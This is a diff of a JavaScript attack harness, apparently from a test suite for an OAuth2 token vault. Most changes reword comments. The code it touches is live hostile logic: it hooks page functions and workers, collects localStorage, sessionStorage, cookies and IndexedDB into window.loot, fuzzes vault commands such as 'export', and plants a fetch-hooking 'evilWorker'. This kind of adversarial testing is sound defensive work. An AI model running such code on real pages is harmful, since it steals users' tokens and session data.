@@ -1,6 +1,6 @@
-// What a hostile script does that runs before everything else in the page: it looks at all that the
-// page's code touches, and asks for whatever it can. Each attempt has a name; what it got stands as
-// text in window.loot under that name.
+// A hostile script that runs before everything else in the page: it observes everything that the
+// page's code uses, and asks for everything it can. Each attempt has a name; window.loot has its
+// result as text under that name.
 (() => {
   const { parse, stringify } = JSON;
   const { apply, ownKeys } = Reflect;
@@ -18,15 +18,15 @@
     Blob,
   };
   const loot = (window.loot = {});
-  /** Workers that the page's code has begun. */
+  /** Workers that the page's code has started. */
   const begun = [];
   const decoder = new TextDecoder();
   const decode = decoder.decode;
   let busy = false;
-  /** The attempt that alone writes down what it sees: it gets by itself what others would see. */
+  /** If set, only this attempt records what it sees, because it causes what others would see. */
   let only;
 
-  /** All text in a value, and that a private key is among it. */
+  /** All text in a value, and a note if it contains a private key. */
   const texts = (value, depth = 0, out = []) => {
     if (out.length > 3000 || depth > 6 || value === null || value === undefined) return out;
     if (typeof value === 'string') return (push.call(out, value), out);
@@ -45,7 +45,7 @@
       if (value instanceof Error) texts([value.message, value.stack, value.cause], depth + 1, out);
       for (const key of ownKeys(value)) if (typeof key === 'string') texts(value[key], depth + 1, out);
     } catch {
-      // it can be looked at no further
+      // it cannot be inspected further
     }
     return out;
   };
@@ -58,7 +58,7 @@
     busy = false;
   };
 
-  /** Puts a function in the place of another, which sees its arguments and what comes of it. */
+  /** Replaces a function by one that sees its arguments and its result. */
   const hook = (name, of, ...members) => {
     loot[name] ??= [];
     const isWorker = name.endsWith('Worker');
@@ -80,7 +80,7 @@
     }
   };
 
-  /** Sees what is given to handlers, however they are set. */
+  /** Sees the events of handlers, however they are set. */
   const hears = (name, prototype) => {
     const add = prototype.addEventListener ?? EventTarget.prototype.addEventListener;
     const own = Object.getOwnPropertyDescriptor(prototype, 'onmessage');
@@ -173,7 +173,7 @@
     }
   };
 
-  /** All commands of the module, and members that are none, as messages to a vault. */
+  /** All commands of the module, and some that do not exist, as messages to a vault. */
   const commands =
     'authorize callback matches exchange token prepare answered refresh userinfo profile extend device_start device_wait poll_start poll_stop client_credentials token_exchange jwt_bearer register resource_metadata front_channel_logout introspect set_token status export look cancel perform __proto__ constructor toString hasOwnProperty valueOf'.split(
       ' ',
@@ -207,7 +207,7 @@
     'token',
     7,
   ];
-  /** Says all of them to whatever takes messages, each with a port for who answers by one. */
+  /** Sends all of them to a port or worker, each with a port for the answer. */
   const talk = async (name, port) => {
     port.addEventListener('message', ({ data }) => see(name, data));
     port.start?.();
@@ -254,12 +254,12 @@
     await wait(1_500);
     return frame.contentWindow;
   };
-  /** A worker of the attacker's own, whose fetch is hooked before the vault's script runs in it. */
+  /** The attacker's own worker, whose fetch is hooked before the vault's script runs in it. */
   const evilWorker = `const f = self.fetch; self.fetch = async (...a) => { const r = await f(...a); postMessage([String(a[0]), a[1]?.body && String(a[1].body), await r.clone().text()]); return r; };
     const on = self.onmessage; import(VAULT).then(() => self.dispatchEvent(new MessageEvent('message', { data: { id: 1, command: 'export' } })), (e) => postMessage(String(e)));
     fetch(VAULT, { headers: { 'x-oauth2-wasm-keeper': '1' } }).catch((e) => postMessage(String(e)));`;
 
-  /** What is tried with the client at hand, once somebody is signed in. */
+  /** The attempts that use the client, once somebody is signed in. */
   window.attempts = {
     'reads localStorage, sessionStorage and cookies': (name) => see(name, { ...localStorage }, { ...sessionStorage }, document.cookie),
     'reads every IndexedDB database': databases,
@@ -492,10 +492,7 @@
   loot['hooks Promise'] ??= [];
   loot['sets traps on Object.prototype'] ??= [];
 
-  /**
-   * Does all that is in `attempts`, and says of each attempt how much it saw and which secrets were
-   * in it.
-   */
+  /** Makes all `attempts`, and says for each how much it saw and which secrets were in it. */
   window.attack = async () => {
     for (const [name, attempt] of Object.entries(window.attempts)) {
       loot[name] ??= [];
@@ -503,8 +500,7 @@
     }
   };
   /**
-   * `backwards`: the verifiers, written so that what brings them here is not itself what finds
-   * them.
+   * `backwards`: the verifiers, reversed so that passing them here does not itself count as a find.
    */
   window.found = (backwards) => {
     busy = true;
